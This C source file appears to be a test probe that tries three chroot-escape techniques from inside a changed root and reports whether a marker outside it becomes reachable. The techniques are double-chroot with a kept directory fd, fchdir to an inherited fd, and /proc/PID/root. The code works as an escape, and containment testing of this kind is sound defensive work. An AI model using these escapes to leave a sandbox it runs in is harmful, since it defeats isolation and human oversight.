/* escape METHOD MARKER [FD|PID]: try to leave a changed root, and report whether
 * MARKER (an absolute path that exists only outside the root) became
 * reachable. Prints "escaped" (exit 0) or "contained: WHY" (exit 1).
 *
 *   double-chroot  the classic: keep a directory fd, chroot into a
 *                  subdirectory, fchdir back out of it, climb with "..",
 *                  chroot(".") there (needs CAP_SYS_CHROOT)
 *   fchdir         fchdir to FD, a directory opened outside and inherited,
 *                  climb with "..", chroot(".")
 *   proc-root      follow /proc/PID/root, the root of a process that lives
 *                  outside (if this /proc shows it)
 *
 * Built static with gcc by the tests, run inside a busybox root. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int reachable(const char *marker) {
    return access(marker, F_OK) == 0;
}

static int verdict(const char *marker, const char *why) {
    if (reachable(marker)) {
        puts("escaped");
        return 0;
    }
    printf("contained: %s\n", why);
    return 1;
}

static void climb(void) {
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) break;
    }
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: escape double-chroot|fchdir|proc-root MARKER [FD|PID]\n");
        return 2;
    }
    const char *method = argv[1], *marker = argv[2];
    char why[4200] = "the marker is not reachable";
    if (reachable(marker)) {
        puts("not even changed root: the marker is reachable from the start");
        return 3;
    }
    if (strcmp(method, "double-chroot") == 0) {
        int fd = open("/", O_RDONLY | O_DIRECTORY);
        mkdir("/tmp/escape-jail", 0755);
        if (fd < 0 || chroot("/tmp/escape-jail") != 0) {
            snprintf(why, sizeof why, "chroot: %s", strerror(errno));
            return verdict(marker, why);
        }
        if (fchdir(fd) != 0) {
            snprintf(why, sizeof why, "fchdir: %s", strerror(errno));
            return verdict(marker, why);
        }
        climb();
        if (chroot(".") != 0) snprintf(why, sizeof why, "chroot(\".\"): %s", strerror(errno));
        return verdict(marker, why);
    }
    if (strcmp(method, "fchdir") == 0) {
        int fd = argc > 3 ? atoi(argv[3]) : 3;
        if (fchdir(fd) != 0) {
            snprintf(why, sizeof why, "fchdir(%d): %s", fd, strerror(errno));
            return verdict(marker, why);
        }
        climb();
        if (chroot(".") != 0) {
            /* Without CAP_SYS_CHROOT: the marker may still be reachable
             * relative to the working directory. */
            snprintf(why, sizeof why, "chroot(\".\"): %s", strerror(errno));
            const char *relative = marker;
            while (*relative == '/') relative++;
            if (access(relative, F_OK) == 0) {
                puts("escaped");
                return 0;
            }
        }
        return verdict(marker, why);
    }
    if (strcmp(method, "proc-root") == 0) {
        char path[4096];
        snprintf(path, sizeof path, "/proc/%s/root%s", argc > 3 ? argv[3] : "1", marker);
        if (access(path, F_OK) == 0) {
            puts("escaped");
            return 0;
        }
        snprintf(why, sizeof why, "%s: %s", path, strerror(errno));
        return verdict(marker, why);
    }
    fprintf(stderr, "escape: unknown method '%s'\n", method);
    return 2;
}
